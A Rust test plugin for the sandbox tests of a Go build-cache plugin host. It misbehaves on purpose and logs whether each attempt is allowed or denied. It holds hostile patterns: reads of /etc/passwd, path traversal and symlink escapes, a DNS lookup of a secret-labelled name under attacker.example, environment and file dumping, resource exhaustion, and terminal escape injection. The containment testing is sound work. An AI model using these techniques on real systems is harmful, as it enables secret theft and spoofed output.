//! A plugin that misbehaves on purpose, for the sandbox tests. `--config
//! attack=NAME` picks what it does (see [`Attack`]; an unknown name is an
//! invalid configuration); `port=N` is the local port to try for the network
//! attacks. Every attempt to reach something is recorded as one line in
//! `/state/report`: `NAME: ALLOWED ...` if it worked, `NAME: denied ...` if
//! not, so a test can tell containment from a plugin that never tried.

use std::fs::OpenOptions;
use std::hint::black_box;
use std::io::{Read, Write};
use std::str::FromStr;
use std::time::Duration;

use gocp_plugin_sdk::{
    Backend, Capabilities, Config, ConfigKey, Digest, Entry, Error, Info, OutputStream, export_backend, write_all,
};

/// What the plugin does; `describe` lists every name, and the test suite
/// checks that each is used by some test.
#[derive(Clone, Copy, PartialEq)]
enum Attack {
    /// Nothing: an empty store (no `attack=` given).
    None,
    /// Tries to read files outside its grants.
    Files,
    /// Connects to `port` over TCP and HTTP.
    Net,
    /// Resolves a name it was not granted, and `localhost`.
    Dns,
    /// Reads `GOCP_TEST_SECRET`.
    Env,
    /// Records everything it can see: every variable, and every file (with
    /// what is in it) of every directory it was given.
    Observe,
    /// Spins in `read-entry` until stopped.
    Loop,
    /// Sleeps in `read-entry` (blocked in the host, beyond interruption).
    Sleep,
    /// Allocates in `read-entry` until the memory limit.
    Alloc,
    /// Panics in `read-entry`.
    Panic,
    /// Writes protocol-looking text to stdout and a line to stderr.
    Stdout,
    /// Answers bodies whose bytes are not their output id's.
    WrongBytes,
    /// Says the backend is down on every lookup.
    Unavailable,
    /// Says the backend is down with a long message full of terminal escapes.
    NoisyErrors,
    /// Has every entry; each body sends 1 KiB, stalls, then fails as unavailable.
    StallBody,
    /// Claims a 400 MiB body for every entry, sends 1 KiB of it and sleeps.
    BigClaim,
    /// `open` says the backend is down.
    OpenUnavailable,
    /// `open` panics.
    OpenPanic,
    /// `open` spins until stopped.
    OpenLoop,
    /// `open` sleeps (blocked in the host).
    OpenSleep,
    /// The first `open` of a state directory succeeds, every later one
    /// sleeps; lookups panic, so instances are replaced.
    LaterOpensSleep,
}

/// Every attack by name; without `attack=`, the plugin is an empty store.
const ATTACKS: &[(&str, Attack)] = &[
    ("files", Attack::Files),
    ("net", Attack::Net),
    ("dns", Attack::Dns),
    ("env", Attack::Env),
    ("observe", Attack::Observe),
    ("loop", Attack::Loop),
    ("sleep", Attack::Sleep),
    ("alloc", Attack::Alloc),
    ("panic", Attack::Panic),
    ("stdout", Attack::Stdout),
    ("wrong-bytes", Attack::WrongBytes),
    ("unavailable", Attack::Unavailable),
    ("noisy-errors", Attack::NoisyErrors),
    ("stall-body", Attack::StallBody),
    ("big-claim", Attack::BigClaim),
    ("open-unavailable", Attack::OpenUnavailable),
    ("open-panic", Attack::OpenPanic),
    ("open-loop", Attack::OpenLoop),
    ("open-sleep", Attack::OpenSleep),
    ("later-opens-sleep", Attack::LaterOpensSleep),
];

impl FromStr for Attack {
    type Err = Error;

    fn from_str(s: &str) -> Result<Attack, Error> {
        ATTACKS
            .iter()
            .find(|(name, _)| *name == s)
            .map(|(_, a)| *a)
            .ok_or_else(|| Error::InvalidConfig(format!("attack={s}: no such attack")))
    }
}

struct Hostile {
    attack: Attack,
}

fn report(what: &str, outcome: Result<String, String>) {
    let line = match outcome {
        Ok(detail) => format!("{what}: ALLOWED {detail}\n"),
        Err(why) => format!("{what}: denied ({why})\n"),
    };
    if let Ok(mut f) = OpenOptions::new().create(true).append(true).open("/state/report") {
        let _ = f.write_all(line.as_bytes());
    }
}

fn read(path: &str) -> Result<String, String> {
    let mut s = String::new();
    std::fs::File::open(path).and_then(|mut f| f.read_to_string(&mut s)).map_err(|e| e.to_string())?;
    Ok(format!("read {} bytes of {path}", s.len()))
}

fn files() {
    report("etc-passwd", read("/etc/passwd"));
    report("dotdot", read("/state/../../../../../../etc/passwd"));
    let _ = std::fs::remove_file("/state/own-link");
    let made = wasi::filesystem::preopens::get_directories()
        .into_iter()
        .find(|(_, path)| path == "/state")
        .ok_or_else(|| "no /state preopen".to_string())
        .and_then(|(dir, _)| dir.symlink_at("/etc/passwd", "own-link").map_err(|e| format!("{e:?}")));
    report("own-symlink", made.and_then(|()| read("/state/own-link")));
    report("planted-symlink", read("/state/planted"));
    report("granted-dir", read("/granted/hello.txt"));
}

fn tcp(port: u16) {
    let outcome = std::net::TcpStream::connect(("127.0.0.1", port))
        .map(|_| format!("connected to 127.0.0.1:{port}"))
        .map_err(|e| e.to_string());
    report("tcp", outcome);
}

fn http(port: u16) {
    use wasi::http::types::{Fields, OutgoingRequest, Scheme};
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(&format!("127.0.0.1:{port}")));
    let _ = request.set_path_with_query(Some("/"));
    let outcome = match wasi::http::outgoing_handler::handle(request, None) {
        Err(e) => Err(format!("{e:?}")),
        Ok(response) => {
            response.subscribe().block();
            match response.get() {
                Some(Ok(Ok(r))) => Ok(format!("HTTP status {}", r.status())),
                Some(Ok(Err(e))) => Err(format!("{e:?}")),
                other => Err(format!("{other:?}")),
            }
        }
    };
    report("http", outcome);
}

fn dns() {
    use wasi::sockets::{instance_network::instance_network, ip_name_lookup::resolve_addresses};
    let network = instance_network();
    for (what, name) in [("dns-ungranted", "leak-hunter2.attacker.example"), ("dns-granted", "localhost")] {
        let outcome = resolve_addresses(&network, name).map_err(|e| format!("{e:?}")).and_then(|stream| {
            stream.subscribe().block();
            match stream.resolve_next_address() {
                Ok(Some(addr)) => Ok(format!("{name} resolved to {addr:?}")),
                Ok(None) => Err(format!("{name} has no address")),
                Err(e) => Err(format!("{e:?}")),
            }
        });
        report(what, outcome);
    }
}

fn observe() {
    let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    report("observe-env", Ok(vars.join(" ")));
    let mut seen = Vec::new();
    for (_, dir) in wasi::filesystem::preopens::get_directories() {
        walk(std::path::Path::new(&dir), 3, &mut seen);
    }
    report("observe-files", Ok(seen.join(" ")));
}

/// Every file below `dir`, with what it holds, `depth` levels down at most.
fn walk(dir: &std::path::Path, depth: u32, seen: &mut Vec<String>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() && depth > 0 {
            walk(&path, depth - 1, seen);
        } else if let Ok(bytes) = std::fs::read(&path) {
            seen.push(format!("{}={}", path.display(), String::from_utf8_lossy(&bytes[..bytes.len().min(4096)])));
        }
    }
}

fn sleep_forever() -> ! {
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}

fn env() {
    report(
        "env",
        std::env::var("GOCP_TEST_SECRET").map(|v| format!("GOCP_TEST_SECRET={v}")).map_err(|e| e.to_string()),
    );
}

impl Backend for Hostile {
    fn describe() -> Info {
        Info {
            name: "hostile".into(),
            version: "0.0.0".into(),
            summary: "misbehaves on purpose, for tests".into(),
            max_instances: 0,
            config_keys: vec![
                ConfigKey {
                    name: "attack".into(),
                    help: format!("what to try: {}", ATTACKS.iter().map(|(n, _)| *n).collect::<Vec<_>>().join(", ")),
                },
                ConfigKey { name: "port".into(), help: "local port for network attacks".into() },
            ],
        }
    }

    fn open(mut config: Config) -> Result<(Self, Capabilities), Error> {
        let attack = match config.take("attack") {
            Some(name) => name.parse()?,
            None => Attack::None,
        };
        let port: u16 = config.take("port").and_then(|p| p.parse().ok()).unwrap_or(0);
        config.finish()?;
        match attack {
            Attack::Files => files(),
            Attack::Net => {
                tcp(port);
                http(port);
            }
            Attack::Dns => dns(),
            Attack::Env => env(),
            Attack::Observe => observe(),
            Attack::OpenUnavailable => return Err(Error::Unavailable("the backend is down at open".into())),
            Attack::OpenPanic => panic!("the hostile plugin panics in open"),
            Attack::OpenLoop => loop {
                black_box(0);
            },
            Attack::OpenSleep => sleep_forever(),
            Attack::LaterOpensSleep if std::fs::File::create_new("/state/opened").is_err() => sleep_forever(),
            _ => {}
        }
        let stores_bodies = matches!(attack, Attack::WrongBytes | Attack::StallBody | Attack::BigClaim);
        Ok((Hostile { attack }, Capabilities { stores_bodies }))
    }

    fn read_entry(&mut self, _action_id: &Digest) -> Result<Entry, Error> {
        match self.attack {
            Attack::Loop => loop {
                black_box(0);
            },
            Attack::Sleep => sleep_forever(),
            Attack::Alloc => {
                let mut hoard = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            Attack::Panic | Attack::LaterOpensSleep => panic!("the hostile plugin panics"),
            Attack::Stdout => {
                // Looks like protocol traffic; must never reach the go command.
                println!("{{\"ID\":1,\"Miss\":true}}");
                print!("not json at all\n\n");
                eprintln!("hostile says hello on stderr");
                Err(Error::NotFound)
            }
            Attack::WrongBytes => Ok(Entry { output_id: [7; 32], size: 1000, put_time_ns: 1, host_data: Vec::new() }),
            Attack::Unavailable => Err(Error::Unavailable("the backend is down".into())),
            Attack::NoisyErrors => Err(Error::Unavailable(format!(
                "\u{1b}]0;owned\u{7}\u{1b}[2J\ngocp: a forged line\r{}",
                "x".repeat(8 << 20)
            ))),
            Attack::StallBody => Ok(Entry { output_id: [8; 32], size: 1 << 20, put_time_ns: 1, host_data: Vec::new() }),
            Attack::BigClaim => {
                Ok(Entry { output_id: [9; 32], size: 400 << 20, put_time_ns: 1, host_data: Vec::new() })
            }
            _ => Err(Error::NotFound),
        }
    }

    fn write_entry(&mut self, _action_id: &Digest, _entry: Entry) -> Result<(), Error> {
        Ok(())
    }

    fn read_body(&mut self, _output_id: &Digest, size: u64, sink: &OutputStream) -> Result<(), Error> {
        match self.attack {
            Attack::StallBody => {
                write_all(sink, &[0xAB; 1024])?;
                std::thread::sleep(Duration::from_millis(200));
                Err(Error::Unavailable("the body stalled".into()))
            }
            Attack::BigClaim => {
                write_all(sink, &[0xAB; 1024])?;
                sleep_forever()
            }
            _ => write_all(sink, &vec![0xAB; size as usize]),
        }
    }
}

export_backend!(Hostile);
